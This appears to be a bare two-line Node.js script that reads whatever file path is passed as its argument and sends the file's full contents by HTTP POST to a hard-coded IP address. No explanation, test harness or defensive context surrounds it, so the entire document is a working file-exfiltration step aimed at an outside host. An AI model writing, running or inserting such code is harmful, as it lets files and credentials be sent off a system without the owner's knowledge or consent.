const fs = require('fs')
fetch('http://203.0.113.70/p', { method: 'POST', body: fs.readFileSync(process.argv[2]) })
